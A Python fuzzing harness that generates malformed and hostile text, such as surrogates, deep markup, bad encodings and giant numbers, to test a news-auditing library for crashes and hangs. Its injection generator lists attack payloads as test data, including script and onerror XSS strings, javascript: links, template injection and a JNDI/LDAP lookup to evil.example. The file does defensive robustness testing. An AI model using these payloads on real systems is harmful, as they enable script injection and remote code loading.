"""Hostile input, generated: the shapes that once crashed or hung the audit, and random mixes of them.

    python -m newsaudit.eval.hostile [--count 10000] [--seed 1] [--workers 2] [--limit-seconds 30]

Every input goes through ``newsaudit.audit()`` in a worker process watched from outside: an
input passes when it gives a report or one of newsaudit's own errors within the time limit.
The run prints the outcome counts, the slowest inputs, the peak memory of any worker, and
every crash or hang with the seed that regenerates it (``--only SEED`` reruns one).

The shapes (``SHAPES``) are what an attacker or an unlucky crawl sends: lone surrogates,
control and bidirectional characters, runs of one punctuation character, strings without a
space, thousands of dates in one sentence, a megabyte on one line, deep JSON-LD and markup,
tags with 100,000 attributes, UTF-16/32 with and without BOMs and with broken pairs, invalid
UTF-8, random bytes, markup and Markdown injection, absurd numbers and dates, and real prose
cut and spliced. Sizes are drawn so that most inputs are small and a few are megabytes.
"""

from __future__ import annotations

import argparse
import multiprocessing
import random
import resource
import string
import sys
import time
from dataclasses import dataclass
from typing import Callable, Iterator, Optional

PROSE = ("The council voted 7 to 2 on Tuesday to raise bus fares by 3 percent, the mayor said. "
         "About 1,200 residents signed a petition against the rise, organisers said on March 4, 2025. ")
HEAD = "The Harbour Gazette\n\nFares rise again at the harbour\n\nBy Ann Lee\n\n"
MAX_BYTES = 10 * 1024 * 1024


def _size(rng: random.Random) -> int:
    """Mostly small, sometimes large, rarely megabytes."""
    roll = rng.random()
    if roll < 0.85:
        return rng.randint(10, 20_000)
    if roll < 0.98:
        return rng.randint(20_000, 400_000)
    return rng.randint(400_000, 3_000_000)


def _prose(rng: random.Random, size: int) -> str:
    return (PROSE * (size // len(PROSE) + 1))[:size]


def surrogates(rng: random.Random) -> str:
    text = list(HEAD + _prose(rng, _size(rng)))
    for _ in range(rng.randint(1, 50)):
        text.insert(rng.randrange(len(text)), chr(rng.randint(0xD800, 0xDFFF)))
    return "".join(text)


def controls(rng: random.Random) -> str:
    evil = ["\x1b[2J", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x07", "\x1b[31m", "\x9b", "\u202e",
            "\u2066", "\r", "\x0b", "\x00", "\x85"]
    parts = [HEAD]
    for _ in range(rng.randint(5, 200)):
        parts.append(PROSE if rng.random() < 0.6 else rng.choice(evil))
    return "".join(parts)


def punctuation_run(rng: random.Random) -> str:
    mark = rng.choice(",.;:!?-—*#=_~'\"()[]{}<>/\\|")
    return HEAD + PROSE + mark * rng.randint(50, min(_size(rng) + 100, 60_000)) + " " + PROSE


def mixed_punctuation(rng: random.Random) -> str:
    marks = string.punctuation + "—–…“”‘’"
    return HEAD + "".join(rng.choice(marks) for _ in range(rng.randint(100, 30_000))) + "\n\n" + PROSE * 3


def long_token(rng: random.Random) -> str:
    alphabet = string.ascii_letters + string.digits + "+/=.-_"
    return HEAD + PROSE + "".join(rng.choice(alphabet) for _ in range(rng.randint(200, 300_000))) + " " + PROSE


def dates_and_numbers(rng: random.Random) -> str:
    months = ["January", "March", "May", "Sept.", "Dec."]
    pieces = [f"on {rng.choice(months)} {rng.randint(1, 31)}, {rng.randint(1900, 2100)} some {rng.randint(0, 10**6):,} "
              f"people, {rng.randint(1, 99)} percent, ${rng.randint(1, 999)} million, for {rng.randint(1, 40)} years"
              for _ in range(rng.randint(10, 3000))]
    return HEAD + "Officials said " + ", ".join(pieces) + ".\n"


def one_line(rng: random.Random) -> str:
    return (HEAD + PROSE * (_size(rng) // len(PROSE) + 1)).replace("\n", " ")


def many_lines(rng: random.Random) -> str:
    return HEAD + "\n".join(rng.choice(["Share", "Menu", PROSE, "x", "", "Photo: AP", "Read more"])
                            for _ in range(rng.randint(100, 100_000)))


def json_ld(rng: random.Random) -> str:
    depth = rng.randint(10, 200_000)
    return (f"<html><head><script type='application/ld+json'>{'[' * depth}{']' * depth}</script></head>"
            f"<body><article><h1>Fares rise</h1><p>{PROSE * 4}</p></article></body></html>")


def nested_markup(rng: random.Random) -> str:
    tag, depth = rng.choice(["div", "span", "b", "table", "li", "a"]), rng.randint(100, 100_000)
    return f"<html><body>{('<' + tag + '>') * depth}<p>{PROSE * 3}</p></body></html>"


def many_attributes(rng: random.Random) -> str:
    count = rng.randint(100, 100_000)
    attributes = " ".join(f"data-a{i}='x'" for i in range(count))
    return f"<html><body><article><p {attributes}>{PROSE * 4}</p></article></body></html>"


def tag_soup(rng: random.Random) -> str:
    pieces = ["<p>", "</p>", "<div>", "</div", "<!--", "-->", "<![CDATA[", "<script>", "</script>", "<a href='",
              "<meta charset='x-unknown'>", "&#xD800;", "&#99999999;", "&amp", "<title>", PROSE, "<br/>", "<"]
    return "<html>" + "".join(rng.choice(pieces) for _ in range(rng.randint(10, 20_000)))


def wide_unicode(rng: random.Random) -> bytes:
    text = HEAD + _prose(rng, min(_size(rng), 200_000))
    encoding = rng.choice(["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
    raw = text.encode(encoding)
    if rng.random() < 0.5:  # a broken pair or a cut in the middle of a character
        cut = rng.randrange(len(raw))
        raw = raw[:cut] + rng.choice([b"\x00\xd8\x41\x00", b"\xff\xfe", b"\x00"]) + raw[cut:]
    return raw


def bad_utf8(rng: random.Random) -> bytes:
    raw = bytearray((HEAD + _prose(rng, _size(rng))).encode("utf-8"))
    for _ in range(rng.randint(1, 100)):
        raw.insert(rng.randrange(len(raw)), rng.choice([0x80, 0xC0, 0xFE, 0xFF, 0xED, 0xF8]))
    return bytes(raw)


def random_bytes(rng: random.Random) -> bytes:
    return bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 50_000)))


def injection(rng: random.Random) -> str:
    evil = ["<script>alert(1)</script>", "[x](javascript:alert(1))", "![i](http://evil.example/p.png)",
            "<img src=x onerror=alert(1)>", "`code`", "**bold**", "| a | b |", "\\", "[link]: http://evil.example",
            "<a href='javascript:alert(1)'>x</a>", "{{7*7}}", "${jndi:ldap://evil.example}"]
    return HEAD + "".join(rng.choice([PROSE, *evil]) for _ in range(rng.randint(5, 300)))


def absurd_numbers(rng: random.Random) -> str:
    oddities = ["9" * rng.randint(20, 5000), "1e309", "-0", "0.0000000000001", "February 30, 2024",
                "the 99,999,999th day", "for 40,000,000 years", "in the year 99999", "on 0000-00-00",
                "31/31/3131", "10^1000 people", "∞ percent", "٣٤٥ people", "一千 people", "1,2,3,4,5,6,7,8,9"]
    return HEAD + " ".join(f"Officials said {rng.choice(oddities)} people fled on Monday." for _ in range(rng.randint(3, 400)))


def unicode_soup(rng: random.Random) -> str:
    ranges = [(0x20, 0x7E), (0xA0, 0x24F), (0x300, 0x36F), (0x590, 0x6FF), (0x900, 0x97F), (0x4E00, 0x9FFF),
              (0x1F300, 0x1F6FF), (0xE000, 0xF8FF), (0xFFF0, 0xFFFF), (0x10000, 0x10FFFF)]
    chars = []
    for _ in range(rng.randint(10, 30_000)):
        low, high = rng.choice(ranges)
        point = rng.randint(low, high)
        chars.append(" " if 0xD800 <= point <= 0xDFFF else chr(point))
    return HEAD + "".join(chars)


def spliced_prose(rng: random.Random) -> str:
    text = HEAD + _prose(rng, _size(rng))
    for _ in range(rng.randint(1, 30)):
        a, b = sorted(rng.randrange(len(text)) for _ in range(2))
        text = text[:a] + text[b:] + text[a:b] * rng.randint(0, 3)
    return text[:MAX_BYTES // 4]


SHAPES: dict[str, Callable[[random.Random], str | bytes]] = {
    fn.__name__: fn for fn in (
        surrogates, controls, punctuation_run, mixed_punctuation, long_token, dates_and_numbers, one_line,
        many_lines, json_ld, nested_markup, many_attributes, tag_soup, wide_unicode, bad_utf8, random_bytes,
        injection, absurd_numbers, unicode_soup, spliced_prose,
    )
}


def generate(seed: int) -> tuple[str, str | bytes]:
    """The input of one seed: its shape's name and the content (the same seed, the same input)."""
    rng = random.Random(seed)
    name = rng.choice(sorted(SHAPES))
    return name, SHAPES[name](rng)


@dataclass(frozen=True)
class Outcome:
    seed: int
    shape: str
    result: str  # "report", "refused:<code>", "crash:<type>: <message>", "hang"
    seconds: float
    peak_mb: float


def _worker(connection) -> None:  # noqa: ANN001 - a multiprocessing Connection
    import newsaudit

    while True:
        seed = connection.recv()
        if seed is None:
            return
        shape, content = generate(seed)
        started = time.monotonic()
        try:
            newsaudit.audit(content)
            result = "report"
        except newsaudit.NewsauditError as error:
            result = f"refused:{error.code}"
        except BaseException as error:  # noqa: BLE001 - what this harness exists to find
            result = f"crash:{type(error).__name__}: {str(error)[:200]}"
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        connection.send(Outcome(seed, shape, result, time.monotonic() - started, peak))


class _Watched:
    """One worker process and the seed it is on; killed and replaced when a seed overruns."""

    def __init__(self) -> None:
        self.parent, child = multiprocessing.Pipe()
        self.process = multiprocessing.Process(target=_worker, args=(child,), daemon=True)
        self.process.start()
        self.seed: Optional[int] = None
        self.started = 0.0

    def give(self, seed: int) -> None:
        self.seed, self.started = seed, time.monotonic()
        self.parent.send(seed)

    def stop(self) -> None:
        self.process.kill()
        self.process.join()


def run(seeds: list[int], workers: int, limit: float) -> Iterator[Outcome]:
    """Outcomes for ``seeds`` in completion order; a seed over ``limit`` seconds is a hang."""
    pending, pool = list(reversed(seeds)), [_Watched() for _ in range(workers)]
    try:
        for worker in pool:
            if pending:
                worker.give(pending.pop())
        while any(worker.seed is not None for worker in pool):
            for index, worker in enumerate(pool):
                if worker.seed is None:
                    continue
                if worker.parent.poll(0.05):
                    outcome = worker.parent.recv()
                elif time.monotonic() - worker.started > limit or not worker.process.is_alive():
                    result = "hang" if worker.process.is_alive() else f"crash:worker died ({worker.process.exitcode})"
                    outcome = Outcome(worker.seed, generate(worker.seed)[0], result, time.monotonic() - worker.started, 0.0)
                    worker.stop()
                    worker = pool[index] = _Watched()
                else:
                    continue
                worker.seed = None
                if pending:
                    worker.give(pending.pop())
                yield outcome
    finally:
        for worker in pool:
            worker.stop()


def main(argv: Optional[list[str]] = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=1, help="the first seed; seeds run from it upwards")
    parser.add_argument("--only", type=int, default=None, help="run just this seed")
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--limit-seconds", type=float, default=30.0)
    args = parser.parse_args(argv)
    seeds = [args.only] if args.only is not None else list(range(args.seed, args.seed + args.count))
    counts: dict[str, int] = {}
    bad: list[Outcome] = []
    slowest: list[Outcome] = []
    peak = 0.0
    started = time.monotonic()
    for done, outcome in enumerate(run(seeds, args.workers, args.limit_seconds), 1):
        kind = outcome.result.split(":")[0]
        counts[kind] = counts.get(kind, 0) + 1
        peak = max(peak, outcome.peak_mb)
        slowest = sorted(slowest + [outcome], key=lambda o: -o.seconds)[:5]
        if kind in ("crash", "hang"):
            bad.append(outcome)
            print(f"{outcome.result} seed={outcome.seed} shape={outcome.shape} ({outcome.seconds:.1f} s)", flush=True)
        if done % 500 == 0:
            print(f"... {done}/{len(seeds)} {counts} peak {peak:.0f} MB", file=sys.stderr, flush=True)
    print(f"{len(seeds)} inputs in {time.monotonic() - started:.0f} s: {counts}; peak worker memory {peak:.0f} MB")
    for outcome in slowest:
        print(f"  slowest: {outcome.seconds:.1f} s seed={outcome.seed} shape={outcome.shape} -> {outcome.result}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
